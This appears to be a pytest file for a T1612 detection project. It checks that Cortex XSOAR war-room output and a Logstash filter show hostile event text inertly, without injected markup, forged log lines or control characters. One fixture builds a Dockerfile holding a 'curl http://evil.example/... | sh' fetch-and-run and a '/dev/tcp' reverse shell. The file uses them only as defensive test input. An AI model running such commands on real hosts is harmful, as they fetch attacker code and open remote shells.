"""Nothing that an event holds runs, forges or hides in what plugins show and pass on.

Their code is run from its folders, which the source distribution does not have. The app for Splunk
SOAR needs its vendor's library: ``plugins/splunk_soar/tests/test_hostile.py`` does the same to it.
"""

from __future__ import annotations

import importlib
import json
import sys
from collections.abc import Iterator
from contextlib import suppress
from types import ModuleType
from typing import Any

import pytest

from ..conftest import ROOT
from .holding import forges_no_line, html, is_harmless
from .hostile import CORPORA, chain, refused
from .test_hostile import ONE_OF, markdown

PLUGINS = ROOT / "plugins"
XSOAR = PLUGINS / "cortex_xsoar"
SCRIPTS = XSOAR / "Packs" / "T1612BuildImageOnHost" / "Scripts"
HARMLESS = ("_web", "x y", "7")

# A distribution of sources holds the library and its tests, and no plugin.
pytestmark = pytest.mark.skipif(
    not PLUGINS.is_dir(),
    reason="plugins/ is not in the sdist",
)


def texts() -> list[str]:
    return [text for each in CORPORA.values() for text in each[::ONE_OF]]


def events(texts: Any) -> list[dict[str, Any]]:
    made = []
    for number, text in enumerate(texts):
        made += [*chain(text), *(refused(text) if number % 4 == 0 else ())]
    return made


def ran(
    monkeypatch: pytest.MonkeyPatch, script: str, context: Any = None, **args: Any
) -> list[Any]:
    """Run a script of the pack for Cortex XSOAR from its source; give its entries."""
    for path in (XSOAR / "src", XSOAR / "tests" / "stubs"):
        monkeypatch.syspath_prepend(str(path))
    pasted = ModuleType("T1612CoreApiModule")
    pasted.__dict__.update(t1612_xsoar=importlib.import_module("t1612_xsoar"), Any=Any)
    monkeypatch.setitem(sys.modules, pasted.__name__, pasted)
    demisto: Any = importlib.import_module("demistomock")
    told: list[Any] = []
    demisto.results, demisto.args, demisto.context = told.append, lambda: args, lambda: context
    demisto.error = demisto.info = demisto.debug = lambda *_, **__: None
    source = (SCRIPTS / script / f"{script}.py").read_text("utf-8")
    with suppress(SystemExit):
        exec(compile(source, script, "exec"), {"__name__": "__builtin__"})
    return [each for one in told for each in (one if isinstance(one, list) else [one])]


def shown(entries: list[Any]) -> str:
    """Give what the war room renders of entries; errors among them."""
    return "\n".join(
        each.get("HumanReadable") or (each["Contents"] if each["Type"] == 4 else "")
        for each in entries
    )


@pytest.mark.parametrize("script", ["T1612ScoreEvents", "T1612Correlate"])
def test_a_war_room_shows_texts_as_they_are(monkeypatch: pytest.MonkeyPatch, script: str) -> None:
    rows = [
        shown(ran(monkeypatch, script, events=events(each), max_findings="5000", max_chains="5000"))
        for each in (texts(), HARMLESS)
    ]

    assert rows[0].count("\n") > 20
    markdown(*rows)


def test_a_war_room_shows_a_dockerfile_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    def page(each: str) -> str:
        said = " ".join(each.splitlines())
        text = f"FROM a\nRUN curl http://evil.example/{said} | sh\nRUN bash -i >& /dev/tcp/x/1"
        return shown(ran(monkeypatch, "T1612ScoreDockerfile", dockerfile=text))

    for text in texts():
        markdown(page(text), page("_x"))


@pytest.mark.parametrize("text", texts(), ids=ascii)
def test_an_error_in_a_war_room_is_no_more_than_a_text(
    monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    for args in ({"events": text}, {"profile": text, "events": "[]"}, {"kind": text, "events": []}):
        for entry in ran(monkeypatch, "T1612ScoreEvents", **args):
            is_harmless(str(entry["Contents"]) if entry["Type"] == 4 else entry["HumanReadable"])


def test_the_page_of_an_incident_holds_no_more_than_texts(monkeypatch: pytest.MonkeyPatch) -> None:
    def page(each: Any) -> str:
        held: dict[str, Any] = {}
        for entry in ran(monkeypatch, "T1612ScoreEvents", events=events(each)):
            for path, value in entry["EntryContext"].items():
                held[path.split("(")[0].partition(".")[2]] = value
        (entry,) = ran(monkeypatch, "T1612ShowFindings", context={"T1612": held})
        return str(entry["Contents"])

    harmless = page(HARMLESS)
    for some in zip(*[iter(texts())] * 6, strict=False):
        html(page(some), harmless)


@pytest.fixture
def lines(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    monkeypatch.syspath_prepend(str(PLUGINS / "logstash" / "src"))
    filter = importlib.import_module("t1612_logstash.loading").load(params={"correlate": "true"})
    yield filter.lines
    filter.close()


def test_a_line_of_a_pipeline_is_one_event_and_a_log_tells_nothing_of_it(
    lines: Any, caplog: pytest.LogCaptureFixture
) -> None:
    """An event goes on as it came, so its texts stay in it: for a program, and for no eye."""
    given = events(texts())
    made = lines([json.dumps(each).encode() for each in given])

    assert len(given) <= len(made)
    for line in made:
        assert type(json.loads(line)) is dict
        assert min(line) >= 0x20  # no sign that ends a line, or that a terminal obeys
    for record in caplog.records:
        forges_no_line(record.getMessage())
        assert "OWNED" not in record.getMessage()
